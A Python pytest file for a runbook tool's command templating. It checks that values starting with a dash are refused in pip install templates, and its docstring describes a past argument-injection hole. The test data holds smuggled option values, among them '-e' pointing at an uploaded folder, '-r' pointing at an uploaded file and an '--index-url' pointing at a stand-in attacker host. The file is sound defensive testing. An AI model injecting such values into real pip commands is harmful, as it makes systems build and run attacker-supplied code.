"""A value pip reads as an option: `pip install -q {{ pkg }}`, `python3 -m pip install`, `sudo pip3 install --upgrade`.

With pkg = `-e/tmp/upload/evilpkg`, `runbook-tui exec` of `pip install -q {{ pkg }}` validated and pip built the
uploaded folder in place, running its setup.py (it made a marker file); `-r FILE`, `--index-url=URL` pick other code
the same way. A value starting with `-` is refused there now (write `--` before it); a package name or pin passes.
"""

from __future__ import annotations

import pytest

from runbook_tui.runbook.templating import TemplateError, render_command

SHAPES = ["pip install -q {{ x }}", "python3 -m pip install {{ x }}", "python3 -mpip install -U {{ x }}", "sudo pip3 install --upgrade {{ x }}"]


@pytest.mark.parametrize("template", SHAPES)
@pytest.mark.parametrize("value", ["-e/tmp/upload/evilpkg", "--index-url=https://evil.example.com/simple", "-r/tmp/upload/req.txt"])
def test_a_value_starting_with_a_dash_is_an_option_of_pip(template: str, value: str) -> None:
    with pytest.raises(TemplateError, match=r"would be read by pip3? as an option"):
        render_command(template, {"x": value})


@pytest.mark.parametrize("template", [*SHAPES, "pip install -- {{ x }}", 'pip install "app=={{ x }}"', "python3 -m http.server {{ x }}"])
def test_a_package_passes(template: str) -> None:
    assert [v for _, v in render_command(template, {"x": "requests==2.31.0"}).env] == ["requests==2.31.0"]
